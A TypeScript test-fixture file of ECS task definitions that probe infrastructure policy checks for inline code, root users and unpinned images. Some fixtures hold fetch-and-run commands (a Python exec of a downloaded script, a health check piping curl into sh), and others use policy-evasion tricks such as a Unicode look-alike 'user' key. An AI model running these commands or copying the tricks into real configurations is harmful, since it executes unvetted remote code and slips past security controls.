import { TaskDefinition, type TaskDefinitionArgs } from "@pulumi/aws/ecs/taskDefinition";
import type { CustomResourceOptions } from "@pulumi/pulumi";
import { ARNS, container, names, task, taskOf } from "./pipeline-parts";
import type { PolicyProgram } from "./program";

const onlyCode = ["no-inline-code"];

/** A program of one task of the workload's container, with changes. */
const holds = (
  name: string,
  breaks: readonly string[],
  changes: Readonly<Record<string, unknown>>,
): PolicyProgram => ({ name, breaks, register: (own, options) => task(own, options, changes) });

const withVolume = (
  name: string,
  options: CustomResourceOptions,
  volume: Omit<NonNullable<Extract<TaskDefinitionArgs["volumes"], readonly unknown[]>>[number], "name">,
) =>
  new TaskDefinition(
    name,
    {
      family: names.taskFamily,
      cpu: "256",
      memory: "512",
      networkMode: "awsvpc",
      requiresCompatibilities: ["FARGATE"],
      executionRoleArn: ARNS.executionRole,
      taskRoleArn: ARNS.taskRole,
      containerDefinitions: JSON.stringify([
        container({ mountPoints: [{ sourceVolume: "code", containerPath: "/code", readOnly: true }] }),
      ]),
      volumes: [{ name: "code", ...volume }],
    },
    options,
  );

/** Code that a task definition holds, or brings into a promoted image. */
export const taskCodePrograms: readonly PolicyProgram[] = [
  holds("task-with-python-in-its-command", onlyCode, {
    entryPoint: ["python3.12", "-c"],
    command: ["import urllib.request as u; exec(u.urlopen('https://example.com/x').read())"],
  }),
  holds("task-with-a-shell-behind-another-program", onlyCode, {
    command: ["/usr/bin/timeout", "60", "/bin/bash", "-euo", "pipefail", "-c", "make release"],
  }),
  holds("task-with-a-shell-in-one-word", onlyCode, { command: ["env", "-S", "sh -c 'make release'"] }),
  holds("task-with-javascript-for-its-image", onlyCode, { command: ["-e", "require('x')"] }),
  holds("task-with-a-shell-for-its-health", onlyCode, {
    healthCheck: { command: ["CMD-SHELL", "curl -s https://example.com/x | sh"] },
  }),
  holds("task-with-variables-from-a-bucket", onlyCode, {
    environmentFiles: [{ type: "s3", value: `${ARNS.inputBucket}/raw/x.env` }],
  }),
  {
    name: "task-with-code-on-a-network-drive",
    breaks: onlyCode,
    register: (name, options) =>
      withVolume(name, options, {
        efsVolumeConfiguration: { fileSystemId: "fs-0123456789abcdef0", transitEncryption: "ENABLED" },
      }),
  },
  {
    name: "task-with-a-volume-of-docker",
    breaks: onlyCode,
    register: (name, options) =>
      withVolume(name, options, { dockerVolumeConfiguration: { scope: "shared", driver: "nfs" } }),
  },
  {
    name: "task-with-a-user-in-another-s",
    breaks: [
      "hardened-containers",
      "images-by-digest",
      "logging-and-tracing",
      "no-inline-code",
      "no-plaintext-secrets",
    ],
    register: (name, options) =>
      taskOf(name, options, JSON.stringify([{ ...container(), "u\u017fer": "0" }])),
  },
  {
    name: "task-with-two-images-in-one-container",
    breaks: [
      "hardened-containers",
      "images-by-digest",
      "logging-and-tracing",
      "no-builder-containers",
      "no-inline-code",
      "no-plaintext-secrets",
    ],
    register: (name, options) =>
      taskOf(name, options, `[{"image":"docker.io/library/alpine",${JSON.stringify(container()).slice(1)}]`),
  },
  holds("task-with-a-script-of-its-image", [], { command: ["sh", "-e", "/app/run.sh"] }),
  holds("task-with-a-health-check-of-its-image", [], {
    healthCheck: { command: ["CMD", "node", "/app/health.js"] },
  }),
];
